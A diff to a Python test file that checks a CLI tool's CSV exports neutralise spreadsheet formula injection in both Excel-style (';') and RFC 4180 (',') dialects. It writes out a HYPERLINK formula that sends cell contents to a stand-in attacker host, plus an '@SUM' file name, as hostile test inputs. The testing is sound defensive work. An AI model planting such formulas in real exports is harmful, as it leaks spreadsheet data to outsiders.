@@ -78,16 +78,29 @@ def test_csv_writer_quotes_every_separator() -> None:
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'
 
+DIALECTS = pytest.mark.parametrize(
+    ("dialect", "separator"), [("--excel", ";"), ("--no-excel", ",")]
+)
+"""Every CSV neutralises formulas: Swedish Excel's (BOM, ';') and plain RFC 4180 (',')."""
 
-def test_list_csv_neutralises_a_party_name(tmp_path: Path) -> None:
+
+def read_csv(text: str, separator: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=separator))
+
+
+@DIALECTS
+def test_list_csv_neutralises_a_party_name(tmp_path: Path, dialect: str, separator: str) -> None:
     path = hostile(tmp_path, {"name: Exempelnämnden": f"name: '{FORMULA}'"})
-    code, out, _ = run("list", str(path), "--as-of", "2025-01-01", "--format", "csv")
+    code, out, _ = run("list", str(path), "--as-of", "2025-01-01", "--format", "csv", dialect)
     assert code == 0
-    [row] = list(csv.DictReader(io.StringIO(out)))
+    [row] = read_csv(out, separator)
     assert row["parties"] == f"'{FORMULA}; Exempelföreningen"
 
 
-def test_economy_csv_neutralises_an_index_source(tmp_path: Path) -> None:
+@DIALECTS
+def test_economy_csv_neutralises_an_index_source(
+    tmp_path: Path, dialect: str, separator: str
+) -> None:
     path = hostile(
         tmp_path,
         {
@@ -106,19 +119,22 @@ def test_economy_csv_neutralises_an_index_source(tmp_path: Path) -> None:
         ),
         encoding="utf-8",
     )
-    code, out, _ = run("economy", str(path), "--index-file", str(index), "--format", "csv")
+    code, out, _ = run("economy", str(path), "--index-file", str(index), "--format", "csv", dialect)
     assert code == 0
-    rows = list(csv.DictReader(io.StringIO(out)))
+    rows = read_csv(out, separator)
     sources = {r["index_source"] for r in rows if r["year"] == "2025" and r["kind"] == "money"}
     assert sources == {f"'{FORMULA}"}
 
 
-def test_due_csv_neutralises_a_file_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+@DIALECTS
+def test_due_csv_neutralises_a_file_name(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, dialect: str, separator: str
+) -> None:
     hostile(tmp_path, {}, name="@SUM(1+1)")
     monkeypatch.chdir(tmp_path)
-    code, out, _ = run("due", "@SUM(1+1).yaml", "--as-of", "2025-01-01", "--format", "csv")
+    code, out, _ = run("due", "@SUM(1+1).yaml", "--as-of", "2025-01-01", "--format", "csv", dialect)
     assert code == 0
-    rows = list(csv.DictReader(io.StringIO(out)))
+    rows = read_csv(out, separator)
     assert rows and {r["file"] for r in rows} == {"'@SUM(1+1).yaml"}
 
 
